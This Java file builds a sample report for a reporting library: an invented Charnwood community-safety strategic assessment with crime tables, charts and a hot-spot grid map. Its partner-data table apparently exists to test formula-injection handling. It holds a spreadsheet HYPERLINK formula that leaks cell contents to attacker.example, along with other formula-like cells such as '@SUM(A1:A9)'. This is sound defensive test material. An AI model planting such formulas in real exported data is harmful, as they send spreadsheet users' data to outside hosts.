package org.csphub.reporting;

import java.time.LocalDate;
import java.time.YearMonth;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;

import org.csphub.reporting.Block.BulletList;
import org.csphub.reporting.Block.Figure;
import org.csphub.reporting.Block.KeyFigure;
import org.csphub.reporting.Block.KeyFigures;
import org.csphub.reporting.Block.Note;
import org.csphub.reporting.Block.Paragraph;
import org.csphub.reporting.DataTable.Column;
import org.csphub.reporting.DataTable.Kind;
import org.csphub.reporting.charts.ComparisonBarChart;
import org.csphub.reporting.charts.GridMap;
import org.csphub.reporting.charts.MonthlyChart;
import org.csphub.reporting.charts.NumberStyle;
import org.locationtech.jts.geom.Coordinate;
import org.locationtech.jts.geom.GeometryFactory;

/**
 * A hand-made report with every kind of block: key figures, notes, bullets, tables of every column
 * kind (with a month that has no data, negative changes, and text cells that a spreadsheet would run
 * as formulas), a monthly chart, a comparison chart and a grid map, in sections, a subsection and two
 * appendices. The figures are invented.
 */
public final class SampleReports {

	public static final String TOTAL_CRIME = "12,345";

	public static final String ASB = "2,031";

	public static final String HYPERLINK = "=HYPERLINK(\"http://attacker.example/?leak=\"&A1,\"Click for details\")";

	private SampleReports() {
	}

	public static ReportDocument strategicAssessment() {
		List<Block> summary = List.of(
				new KeyFigures(List.of(new KeyFigure("Crimes recorded", TOTAL_CRIME, "up 4.2% on the 12 months before"),
						new KeyFigure("Anti-social behaviour incidents", ASB, "down 6.0%"),
						new KeyFigure("Months with no data", "1", "October 2026 is not loaded"))),
				new Paragraph("Crime rose slightly while anti-social behaviour fell. Violence against the person and "
						+ "shoplifting rose most; burglary fell for the third year."),
				new Note("police.uk moves every crime to a nearby anonymous map point, so locations are approximate."));

		YearMonth first = YearMonth.of(2025, 11);
		List<MonthlyChart.Month> months = new ArrayList<>();
		List<List<Object>> monthRows = new ArrayList<>();
		long[] counts = { 1012, 987, 1043, 950, 1101, 1078, 1120, 1164, 1098, 1022, 1130, -1 };
		for (int i = 0; i < counts.length; i++) {
			YearMonth m = first.plusMonths(i);
			Long value = counts[i] < 0 ? null : counts[i];
			months.add(new MonthlyChart.Month(m, value));
			monthRows.add(Arrays.asList(m.getMonth().getDisplayName(java.time.format.TextStyle.FULL, java.util.Locale.UK)
					+ " " + m.getYear(), value));
		}
		DataTable byMonth = new DataTable("crime-by-month", "Crimes recorded each month",
				List.of(new Column("Month", Kind.TEXT), new Column("Crimes", Kind.COUNT)), monthRows);
		Figure monthlyFigure = new Figure("monthly", "Crimes recorded each month, November 2025 to October 2026",
				"Crime each month was between 950 and 1,164; October 2026 has no data.",
				MonthlyChart.svg("fig-monthly", "Crimes each month", "crimes", months), "crime-by-month");

		DataTable byType = new DataTable("crime-by-type", "Crimes by type, this period and the 12 months before",
				List.of(new Column("Crime type", Kind.TEXT), new Column("This period", Kind.COUNT),
						new Column("12 months before", Kind.COUNT), new Column("Difference", Kind.COUNT),
						new Column("Change", Kind.PERCENT)),
				List.of(Arrays.asList("Violence and sexual offences", 4210L, 3920L, 290L, 0.074),
						Arrays.asList("Shoplifting", 1544L, 1302L, 242L, 0.186),
						Arrays.asList("Burglary", 702L, 815L, -113L, -0.139),
						Arrays.asList("Vehicle crime", 655, 690, -35, -0.051),
						Arrays.asList("Other theft", 1210L, null, null, null)));
		Figure comparison = new Figure("by-type", "Crimes by type: this period and the 12 months before",
				"Violence and shoplifting rose; burglary and vehicle crime fell. Other theft has no comparison.",
				ComparisonBarChart.svg("fig-types", "Crimes by type", "crimes", NumberStyle.COUNT, "This period",
						"12 months before",
						List.of(ComparisonBarChart.Pair.of("Violence and sexual offences", 4210, 3920),
								ComparisonBarChart.Pair.of("Shoplifting", 1544, 1302),
								ComparisonBarChart.Pair.of("Burglary", 702, 815),
								ComparisonBarChart.Pair.of("Vehicle crime", 655, 690),
								new ComparisonBarChart.Pair("Other theft", 1210.0, null))),
				"crime-by-type");

		ReportSection overall = new ReportSection("crime-overall", "Crime overall",
				List.of(new Paragraph("Recorded crime by month and by type."), monthlyFigure, byMonth, comparison, byType),
				List.of(new ReportSection("burglary", "Burglary",
						List.of(new BulletList(List.of("Burglary fell by 13.9%.", "Most burglaries were of homes."))))));

		GeometryFactory geometry = new GeometryFactory();
		var ward = geometry.createPolygon(new Coordinate[] { new Coordinate(452_000, 318_000), new Coordinate(456_500, 318_000),
				new Coordinate(456_500, 321_500), new Coordinate(452_000, 321_500), new Coordinate(452_000, 318_000) });
		List<GridMap.Square> squares = new ArrayList<>();
		List<List<Object>> squareRows = new ArrayList<>();
		List<GridMap.MapClass> classes = GridMap.hotAndColdSpots();
		for (int i = 0; i < 14; i++) {
			for (int j = 0; j < 12; j++) {
				int mapClass = Math.floorMod(i * 3 + j * 5 + (i * j) % 4, 7);
				double west = 452_250 + 250 * i;
				double south = 318_250 + 250 * j;
				squares.add(new GridMap.Square(west, south, mapClass));
				if (mapClass == 6) {
					squareRows.add(Arrays.asList("SK " + (int) (west / 100 % 1000) + " " + (int) (south / 100 % 1000),
							classes.get(mapClass).label(), 20L + i + j));
				}
			}
		}
		DataTable hotSpots = new DataTable("hot-spots", "Squares that are hot spots at 99% confidence",
				List.of(new Column("Grid reference", Kind.TEXT), new Column("Class", Kind.TEXT),
						new Column("Crimes", Kind.COUNT)),
				squareRows);
		Figure map = new Figure("map", "Hot and cold spots of crime in 250 metre squares (Getis-Ord Gi*)",
				"A map of Loughborough in 250 metre squares: hot spots cluster in the town centre.",
				GridMap.svg("fig-map", "Hot and cold spots", 250, classes, squares,
						List.of(new GridMap.Outline("Ward boundary", GridMap.LineStyle.DASHED, List.of(ward))),
						"Locations are approximate: police.uk moves each crime to a nearby map point."),
				"hot-spots");
		ReportSection places = new ReportSection("places", "Where crime happens", List.of(map, hotSpots,
				new Note("A hot spot is a square whose neighbourhood has more crime than chance would give.")));

		DataTable partner = new DataTable("partner-categories", "Partner reports by category (typed by partners)",
				List.of(new Column("Category", Kind.TEXT), new Column("Reports", Kind.COUNT),
						new Column("Change", Kind.COUNT), new Column("Rate per 1,000", Kind.DECIMAL)),
				List.of(Arrays.asList(HYPERLINK, 12L, -12L, -0.25), Arrays.asList("+1", 7L, 3L, 1.5),
						Arrays.asList("-2", 4L, -2L, null), Arrays.asList("@SUM(A1:A9)", 9L, 0L, 0.0),
						Arrays.asList("Noise £ café", 31L, null, 2.75)));
		ReportSection partners = new ReportSection("partner-data", "Partner data", List.of(partner));

		DataTable sources = new DataTable("method-sources", "Data sources used",
				List.of(new Column("Source", Kind.TEXT), new Column("Months loaded", Kind.COUNT),
						new Column("Share of period loaded", Kind.PERCENT)),
				List.of(Arrays.asList("police.uk street crime", 11L, 11 / 12.0),
						Arrays.asList("Council ASB cases", 12L, 1.0)));
		ReportSection method = new ReportSection("method", "Method",
				List.of(new Paragraph("Counts are of crimes recorded by the police in the period."), sources));
		ReportSection quality = new ReportSection("data-quality", "Data quality",
				List.of(new Note("October 2026 is not loaded: it is shown as no data, never as zero.")));

		return new ReportDocument("Charnwood Community Safety Partnership: strategic assessment 2026",
				"12 months to October 2026, compared with the 12 months before", "Charnwood Community Safety Partnership",
				LocalDate.of(2026, 11, 26), "Draft for the partnership board", summary, List.of(overall, places, partners),
				List.of(method, quality),
				List.of("Crime data: contains public sector information licensed under the Open Government Licence v3.0. "
						+ "Source: data.police.uk.",
						"Boundaries: contains Ordnance Survey data © Crown copyright and database right 2026 (OGL v3.0)."));
	}

}
